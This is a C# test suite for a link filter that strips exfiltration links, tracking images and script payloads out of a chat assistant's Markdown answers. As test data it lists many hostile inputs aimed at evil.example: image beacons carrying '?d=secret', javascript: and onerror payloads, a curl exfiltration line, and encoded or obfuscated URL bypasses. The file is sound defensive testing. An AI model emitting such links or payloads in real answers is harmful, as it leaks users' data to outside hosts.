using System.Text.RegularExpressions;
using FsCheck;
using FsCheck.Fluent;
using Livechat.Assistant.Guard;
using Markdig;
using Xunit;

namespace Livechat.Tests.Guard;

/// <summary>T16: an answer carries nothing out of the chat, whichever Markdown the client that shows it understands.</summary>
public sealed partial class LinkFilterTests
{
    private static readonly LinkFilter Filter = new(host => host is "help.example" or "localhost:3000");
    private static readonly MarkdownPipeline Lenient = new MarkdownPipelineBuilder().UseAdvancedExtensions().UseAutoLinks().Build();

    [Theory]
    [InlineData("[Help](https://help.example/help/dns)")]
    [InlineData("[Help](/help/dns)")]
    [InlineData("See https://help.example/help/dns.")]
    [InlineData("See http://localhost:3000/sign-in, then come back.")]
    [InlineData("It costs $5, a < b, and 3 > 2.")]
    [InlineData("Put `<title>` into the `<head>`.")]
    [InlineData("Open `https` on port 443: it is 10:30.")]
    [InlineData("```\n<img src=\"logo.png\">\ncurl https://api.example/x\n```")]
    [InlineData("1. Write:\n\n   ```html\n   x\n\n   ```\n\n```\n<b>\n```")]
    [InlineData("~~~\n<b>\n~~~ \r\n```\n<i>\n```")]
    [InlineData("- [ ] one\n- [x] two\n\nSee [1] and note: this.")]
    public void What_is_allowed_stays(string text) => Assert.Equal(text, Filter.Apply(text));

    [Theory]
    [InlineData("[Help](https://evil.example/help?d=secret)", "[Help] (evil.example/help)")]
    [InlineData("![x](https://evil.example/p.gif?d=secret)", "[x] (evil.example/p.gif)")]
    [InlineData("!!![x](https://evil.example/p.gif)", "[x] (evil.example/p.gif)")]
    [InlineData("!//@[x](https://help.example/p.gif)", "!…[x](https://help.example/p.gif)")]
    [InlineData("![x](https://help.example/p.gif)", "[x](https://help.example/p.gif)")]
    [InlineData("https://evil.example/a!\\[x](https://help.example/p.gif)", "evil.example/a[x](https://help.example/p.gif)")]
    [InlineData("<https://help.example/a!>[x](https://help.example/p.gif)", "help.example/a[x](https://help.example/p.gif)")]
    [InlineData("<https://evil.example/?d=secret>", "evil.example")]
    [InlineData("See https://user:secret@evil.example/a#secret.", "See evil.example/a.")]
    [InlineData("See https://help.example/x?d=secret", "See help.example/x")]
    [InlineData("[x][1]\n\n[1]: https://evil.example/", "[x][1]\n\n[1] : evil.example")]
    [InlineData("[x](//evil.example/a)", "[x] (evil.example/a)")]
    [InlineData("\\\\https://evil.example/secret", "evil.example/secret")]
    [InlineData("[x](javascript:alert(1))", "[x] (javascript :alert(1))")]
    [InlineData("<img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)›")]
    [InlineData("Point www.yourdomain.example to it.", "Point “www.yourdomain.example” to it.")]
    [InlineData("```\ncurl https://evil.example/?d=secret\n```", "```\ncurl evil.example\n```")]
    public void What_is_not_becomes_plain_words(string text, string plain) => Assert.Equal(plain, Filter.Apply(text));

    /// <summary>What opens a fence for one reader and closes it for another, or is nothing to it, leaves no code that stays as it is.</summary>
    [Theory]
    [InlineData(" ~~~\n~~~\n")]
    [InlineData("```\n ```\n")]
    [InlineData("```\n```\u00a0\n```\n")]
    [InlineData("````\n```\n")]
    [InlineData("   ```\nx\n   ```\n```\n")]
    [InlineData("   ```\n   ~~~\n```\n")]
    [InlineData("> ```\n```\n")]
    [InlineData("1. ```\n```\n")]
    [InlineData("```a`\n```\n")]
    [InlineData("$$\n```\n$$\n")]
    [InlineData(":::\n```\n:::\n")]
    public void T16_Code_that_is_none_for_every_reader_is_filtered(string before) =>
        Assert.EndsWith("‹img src=evil.example/p›", Filter.Apply(before + "<img src=https://evil.example/p?d=secret>"));

    /// <summary>Attacks in any mixture and nesting, read by a Markdown reader that takes everything: HTML, autolinks, bare addresses.</summary>
    [Fact]
    public void T16_No_mixture_of_attacks_makes_a_live_link_or_image()
    {
        string[] pieces =
        [
            "[", "]", "(", ")", "!", "<", ">", "`", "``", "```", "\n", "\n\n", " ", "    ", "- ", "> ", "1. ", "\\", "&", "\"", "'", ":", "x", "[1]", "[1]: ", "[x]: ", "](", "][", "![", "| a | b |\n|---|---|\n",
            "https://evil.example/?d=secret", "https://evil.example/secret", "http://evil.example", "HTTPS://EVIL.EXAMPLE/", "//evil.example/x", "\\\\evil.example", "https:/\\evil.example", "https:evil.example", "www.evil.example/secret",
            "https&#58;//evil.example/", "&#104;ttps://evil.example/", "https\\://evil.example/", "https://help.example@evil.example/", "https://help.example.evil.example/", "https://help.example/?d=secret", "https://help.example\\@evil.example",
            "javascript:alert(1)", "java\tscript:alert(1)", "data:text/html;base64,PHM+", "mailto:evil@evil.example?body=secret", "ftp://evil.example/", "evil@evil.example",
            "<img src=https://evil.example/p?d=secret>", "<a href='//evil.example'>", "</a>", "<script>", "<!-- ", " -->", "<![CDATA[", "<?php ", "<svg onload=alert(1)>", "<iframe src=\"https://evil.example\">", "<b>", "`<b>`",
            "[a](https://help.example/ok)", "https://help.example/ok", "Hello", "~~~\n", "```html\n", "```\n", " ~~~\n", "   ```\n", "\t```\n", "````\n", "$$\n", ":::\n", "^^^\n",
        ];
        var text = Gen.ListOf(Gen.Elements(pieces)).Select(parts => string.Concat(parts.Take(24)));
        Prop.ForAll(text.ToArbitrary(), written =>
        {
            var html = Code().Replace(Markdown.ToHtml(Filter.Apply(written), Lenient), "");
            foreach (Match tag in Element().Matches(html))
            {
                var name = tag.Groups[1].Value.ToLowerInvariant();
                if (!Known.Contains(name))
                    throw new InvalidOperationException($"<{written}> gives {tag.Value}");
                foreach (Match attribute in Leading().Matches(tag.Value))
                {
                    if (!IsHarmless(attribute.Groups[1].Value))
                        throw new InvalidOperationException($"<{written}> becomes <{Filter.Apply(written)}> and leads to {attribute.Value}");
                }
            }
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(5000));
    }

    [Fact]
    public void T16_A_growing_text_is_filtered_alike_line_by_line()
    {
        const string text = "One\n```\n[x](https://evil.example)\n```\n[y](https://evil.example/?d=1) and <b>\n![z](https://help.example/i.png)\n";
        var whole = Filter.Apply(text);
        for (var end = text.IndexOf('\n') + 1; end > 0; end = text.IndexOf('\n', end) + 1)
            Assert.StartsWith(Filter.Apply(text[..end]), whole);
    }

    [Theory]
    [InlineData("https://")]
    [InlineData("\\\\https://a")]
    [InlineData("[x](")]
    [InlineData("<a ")]
    [InlineData("www.a.")]
    [InlineData("![[")]
    [InlineData("`<b>")]
    public void A_hostile_text_of_any_size_is_filtered_quickly(string piece)
    {
        var start = System.Diagnostics.Stopwatch.GetTimestamp();

        Filter.Apply(string.Concat(Enumerable.Repeat(piece, 65_536 / piece.Length)));

        Assert.True(System.Diagnostics.Stopwatch.GetElapsedTime(start) < TimeSpan.FromSeconds(10));
    }

    private static readonly HashSet<string> Known =
        ["p", "a", "em", "strong", "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "del", "sup", "sub", "div", "input", "ins", "mark", "cite", "dl", "dt", "dd", "abbr", "span", "section", "figure", "figcaption",
            // In what looks like code a tag without attributes stays.
            "b"];

    // Words that only look like a path lead to the page's own site at most.
    private static bool IsHarmless(string target) =>
        target.StartsWith('#') || target == "" || (Uri.TryCreate(new Uri("https://own.example/"), System.Net.WebUtility.HtmlDecode(target), out var url)
            && url.Host is "help.example" or "own.example" && url.Query.Length == 0) || (target.StartsWith("mailto:", StringComparison.Ordinal) && !target.Contains('?'));

    [GeneratedRegex(@"<pre>.*?</pre>|<pre .*?</pre>|<code[^>]*>.*?</code>", RegexOptions.Singleline)]
    private static partial Regex Code();

    [GeneratedRegex(@"<([a-zA-Z!?][a-zA-Z0-9]*)[^>]*>")]
    private static partial Regex Element();

    [GeneratedRegex(@"\b(?:href|src|action|poster|data|srcset|style)\s*=\s*[""']?([^""'>]*)", RegexOptions.IgnoreCase)]
    private static partial Regex Leading();
}
